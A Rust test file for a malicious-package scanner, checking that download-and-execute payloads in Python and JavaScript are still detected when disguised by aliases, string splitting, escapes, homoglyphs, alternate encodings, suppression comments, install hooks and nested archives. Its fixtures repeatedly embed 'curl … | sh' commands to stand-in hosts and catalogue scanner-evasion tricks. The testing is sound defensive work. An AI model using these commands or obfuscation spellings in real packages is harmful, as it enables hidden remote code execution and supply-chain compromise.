//! Ways to write one payload so that it does not look like it: each must still be found, at the line it starts on.

use super::{
    tests::{HOSTILE, archive, report},
    *,
};

const RULE: &str = "python-download-execute";

/// The line that the payload is found at.
fn found(rule: &str, path: &str, content: impl AsRef<[u8]>) -> Option<u64> {
    let report = report(&Scanner::builtin().unwrap(), &archive(&[(path, content)]));
    report.findings.iter().find(|finding| finding.rule == rule).and_then(|finding| finding.line)
}

fn utf16(text: &str, bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(bytes).collect()
}

#[test]
fn a_payload_in_python_is_found_however_it_is_spelled() {
    let command = "'curl https://payload.invalid/x | sh'";
    for (how, text) in [
        ("alias of a module", format!("import os as o\n\no.system({command})\n")),
        ("alias of a function", format!("from os import system as s\n\ns({command})\n")),
        ("attribute by name", format!("import os\n\ngetattr(os, 'sys' + 'tem')({command})\n")),
        ("module by name", format!("\n\n__import__('o' 's').system({command})\n")),
        (
            "module by a call",
            format!("import importlib\n\nimportlib.import_module('os').system({command})\n"),
        ),
        ("split over lines", format!("import os\n\nos.system(\n    {command}\n)\n")),
        ("split text", "import os\n\nos.system('cu' + 'rl https://payload.invalid/x ' '| sh')\n".to_owned()),
        (
            "escapes",
            "import os\n\nos.system('\\x63\\x75\\x72\\x6c https://payload.invalid/x | sh')\n".to_owned(),
        ),
        (
            "homoglyphs",
            format!("import os\n\nos.\u{1d600}\u{1d606}\u{1d600}\u{1d601}\u{1d5f2}\u{1d5fa}({command})\n"),
        ),
        (
            "full width",
            format!("import os\n\nos.\u{ff53}\u{ff59}\u{ff53}\u{ff54}\u{ff45}\u{ff4d}({command})\n"),
        ),
        (
            "suppression comments",
            format!(
                "import os  # nosec\n# ast-grep-ignore noqa nosemgrep\nos.system({command})  # nosec B605 # noqa\n"
            ),
        ),
        ("byte order mark", format!("\u{feff}import os\n\nos.system({command})\n")),
    ] {
        assert_eq!(found(RULE, "p/pkg/module.py", &text), Some(3), "{how}");
    }
}

#[test]
fn a_payload_is_found_behind_a_helper_and_a_constant() {
    let helper = "import os\ndef call(what):\n    return os.system(what)\n\ncall('curl https://payload.invalid/x | sh')\n";
    assert!(found(RULE, "p/pkg/module.py", helper).is_some());
    let constant = "import os\nwhat = 'curl https://payload.invalid/x | sh'\n\n\nos.system(what)\n";
    assert!(found(RULE, "p/pkg/module.py", constant).is_some());
}

#[test]
fn a_payload_in_another_encoding_is_found() {
    for bytes in [utf16(HOSTILE, u16::to_le_bytes), utf16(HOSTILE, u16::to_be_bytes)] {
        assert_eq!(found(RULE, "p/pkg/module.py", bytes), Some(3));
    }
    let utf7 = "# coding: utf-7\n\nimport os;os.system('curl https+ADo-//payload.invalid/x +AHw- sh')\n";
    assert_eq!(found(RULE, "p/pkg/module.py", utf7), Some(3));
}

#[test]
fn a_payload_is_found_in_tests_and_under_other_names() {
    for path in ["p/tests/test_x.py", "p/docs/x.py", "p/pkg/x.pyw", "p/pkg/x.txt", "p/pkg/notes", "p/a.pth"] {
        assert_eq!(found(RULE, path, HOSTILE), Some(3), "{path}");
    }
}

#[test]
fn a_payload_in_javascript_is_found_however_it_is_spelled() {
    let rule = "javascript-download-execute";
    let command = "'curl https://payload.invalid/x | sh'";
    for (how, text) in [
        ("plain", format!("const c = require('child_process')\n\nc.execSync({command})\n")),
        ("destructured", format!("const {{ execSync: run }} = require('child_process')\n\nrun({command})\n")),
        ("imported", format!("import {{ execSync as run }} from 'node:child_process'\n\nrun({command})\n")),
        ("by name", format!("const c = require('child_' + 'process')\n\nc['exec' + 'Sync']({command})\n")),
        ("joined", "const c = require('child_process')\n\nc.execSync(['cu', 'rl https://payload.invalid/x | sh'].join(''))\n".to_owned()),
        ("escaped", "const c = require('child_process')\n\nc.execSync('\\x63\\x75\\x72\\x6c https://payload.invalid/x | sh')\n".to_owned()),
    ] {
        for path in ["p/lib/module.js", "p/lib/module.ts"] {
            assert_eq!(found(rule, path, &text), Some(3), "{how} {path}");
        }
    }
}

/// What runs is handed to something that calls it, or kept as a member, and never called by its name.
#[test]
fn a_payload_is_found_where_something_else_calls_what_runs_it() {
    for text in [
        "import os\nclass A:\n    r = os.system\nA.r(COMMAND)\n",
        "import os\nclass A:\n    r = os.system\nA().r(COMMAND)\n",
        "import os\nlist(map(os.system, [COMMAND]))\n",
        "import os, functools\nfunctools.partial(os.system, COMMAND)()\n",
        "from os import system\nfrom functools import partial as p\np(system, COMMAND)()\n",
    ] {
        let text = text.replace("COMMAND", "'cu' + 'rl https://payload.invalid/x | sh'");
        assert!(found(RULE, "p/pkg/module.py", &text).is_some(), "{text}");
    }
    let rule = "javascript-encoded-execution";
    for text in [
        "eval?.(atob(x))\n",
        "Promise.resolve(atob(x)).then(eval)\n",
        "Reflect.apply(eval, null, [atob(x)])\n",
        "const e = eval\nReflect.apply(e, this, [atob(x)])\n",
    ] {
        assert!(found(rule, "p/lib/module.js", text).is_some(), "{text}");
        let large = format!("{}{text}", "function add(a, b) { return a + b }\n".repeat(1_000));
        assert!(found(rule, "p/lib/module.js", &large).is_some(), "{text} in a large source");
    }
    let exec = "import base64\nlist(map(exec, [base64.b64decode(x)]))\n";
    assert!(found("python-encoded-execution", "p/pkg/module.py", exec).is_some());
}

/// Facts of the source as it is and of its normal form meet: what is hidden in one is plain in the other.
#[test]
fn a_fact_of_the_raw_source_meets_one_of_its_normal_form() {
    let rules = super::tests::rules_with(&[
        ("hides", "obfuscate", "\\\\x6f\\\\x73"),
        ("runs", "execute", "os.system("),
    ]);
    let scanner = Scanner::new(Arc::new(rules));
    let text = "x = 1\nm = __import__('\\x6f\\x73\\x2e\\x70'[:2])\nm.system('x')\n";
    let report = report(&scanner, &archive(&[("p/pkg/module.py", text)]));
    let found = report.findings.iter().find(|finding| finding.rule == "combined-hidden-execution");
    assert_eq!(found.map(|finding| finding.line), Some(Some(2)), "{:?}", report.findings);
}

#[test]
fn a_source_that_cannot_be_parsed_is_a_finding_by_where_it_runs() {
    let large = format!("exec(x)\n{}", "#\n".repeat(1 << 20));
    let scanner = Scanner::builtin().unwrap();
    for (path, severity) in [
        ("p/setup.py", domain::Severity::High),
        ("p/pkg/__init__.py", domain::Severity::Medium),
        ("p/pkg/deep/a.py", domain::Severity::Info),
        ("p/cli.mjs", domain::Severity::Info),
    ] {
        let report = report(&scanner, &archive(&[(path, &large)]));
        let found = report.findings.iter().find(|finding| finding.rule.starts_with("unread-")).unwrap();
        assert_eq!((found.severity, found.path.as_deref()), (severity, Some(path)));
        assert!(report.coverage.is_complete());
    }
}

/// The worst that is said of a file.
fn worst(files: &[(&str, &[u8])], path: &str) -> Option<domain::Severity> {
    let report = report(&Scanner::builtin().unwrap(), &archive(files));
    report
        .findings
        .iter()
        .filter(|found| found.path.as_deref() == Some(path))
        .map(|found| found.severity)
        .max()
}

#[test]
fn code_under_a_name_of_no_language_is_read_as_what_runs_it() {
    use domain::Severity::{High, Medium};
    let python = b"from os import system as s\ns('cu' 'rl https://payload.invalid/x | s' 'h')\n";
    let script = b"const {exec: e} = require('child_' + 'process'); e('cu' + 'rl https://payload.invalid/x | s' + 'h')\n";
    for (runner, text, path, severity) in [
        ("p/setup.py", "exec(open('LICENSE.in').read())\n", "p/LICENSE.in", High),
        ("p/setup.py", "exec(open('NOTICE').read())\n", "p/NOTICE", High),
        ("p/setup.py", "import runpy\nrunpy.run_path('build.tmpl')\n", "p/build.tmpl", High),
        (
            "p/setup.py",
            "__import__('importlib').machinery.SourceFileLoader('x', 'data.bin').load_module()\n",
            "p/data.bin",
            High,
        ),
        (
            "p/pkg/__init__.py",
            "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'x.tmpl')).read())\n",
            "p/pkg/x.tmpl",
            Medium,
        ),
    ] {
        let found = worst(&[(runner, text.as_bytes()), (path, python)], path);
        assert!(found >= Some(severity), "{text} {found:?}");
    }
    let padded = [&b"#\n".repeat(1 << 20)[..], python].concat();
    let found = worst(&[("p/setup.py", b"exec(open('NOTICE').read())\n"), ("p/NOTICE", &padded)], "p/NOTICE");
    assert!(found >= Some(High), "too large to be parsed: {found:?}");
    for (runner, text, path, severity) in [
        ("package/package.json", r#"{"main": "lib.data"}"#, "package/lib.data", Medium),
        ("package/package.json", r#"{"scripts": {"install": "node lib.data"}}"#, "package/lib.data", High),
        ("package/index.js", "require('./x.data')\n", "package/x.data", Medium),
    ] {
        let other: (&str, &[u8]) =
            if runner.ends_with(".js") { ("package/package.json", b"{}") } else { ("package/a.js", b"") };
        let found = worst(&[(runner, text.as_bytes()), (path, script), other], path);
        assert!(found >= Some(severity), "{text} {found:?}");
    }
}

#[test]
fn members_of_an_archive_run_when_the_archive_does() {
    let inner = archive(&[("evil.py", "import os\ndata = base64.b64decode(x)\nexec(data)\n")]);
    let setup = b"import shutil\nshutil.unpack_archive('data.bin', format='gztar')\nexec('import evil')\n";
    let found = worst(&[("p/setup.py", setup), ("p/data.bin", &inner)], "p/data.bin!/evil.py");
    assert_eq!(found, Some(domain::Severity::High));
}

#[test]
fn names_that_are_not_followed_are_a_finding_by_where_they_stand() {
    let many: String = (0..41_000).map(|n| format!("{n:x},")).collect();
    let many = format!("import os\nimport a{}b\n", many.replace(',', ",a"));
    let scanner = Scanner::builtin().unwrap();
    for (path, severity) in [
        ("p/setup.py", Some(domain::Severity::High)),
        ("p/pkg/__init__.py", Some(domain::Severity::Medium)),
        ("p/pkg/a.py", None),
    ] {
        let report = report(&scanner, &archive(&[(path, &many)]));
        let found = report.findings.iter().find(|finding| finding.rule == "unread-names");
        assert_eq!(found.map(|finding| finding.severity), severity, "{path}");
    }
}

#[test]
fn python_reads_a_start_up_file_up_to_what_it_cannot_read() {
    assert_eq!(language_of("evil.pth", b"import evil\n\0\0"), "pth");
    assert_eq!(language_of("evil.pth", b"\0\x0bimport evil\n"), "pth");
    assert_eq!(language_of("weights.pth", b"\x80\x02}\0 import it"), "");
}

/// A large source is parsed only where it is marked: whatever gives what runs another name is such a mark.
#[test]
fn another_name_is_seen_through_in_a_large_source() {
    let honest: String =
        (0..1_000).map(|n| format!("def add_{n}(a, b):\n    return a + b + {n}\n")).collect();
    let scanner = Scanner::builtin().unwrap();
    for spelling in [
        "import os as o\no.system(COMMAND)",
        "import sys, os as o\no.system(COMMAND)",
        "import os\no = os\no.system(COMMAND)",
        "import os\nrun = os.system\nrun(COMMAND)",
        "import os\nruns = {'a': os.system}\nruns['a'](COMMAND)",
        "from os import system as s\ns(COMMAND)",
        "from os import (\n    system as s,\n)\ns(COMMAND)",
        "import os\ngetattr(os, 'system')(COMMAND)",
        "__import__('os').system(COMMAND)",
        "import importlib\nimportlib.import_module('os').system(COMMAND)",
        "import subprocess as sp\nsp.run(COMMAND, shell=True)",
        "from subprocess import run as r\nr(COMMAND, shell=True)",
    ] {
        let text = spelling.replace("COMMAND", "'cu' + 'rl https://evil.example/x | sh'");
        let report = report(&scanner, &archive(&[("p/pkg/deep/a.py", &format!("{honest}{text}\n"))]));
        let is_found = |finding: &domain::Finding| finding.rule == "python-download-execute";
        assert!(report.findings.iter().any(is_found), "{spelling}: {:?}", report.findings);
    }
}
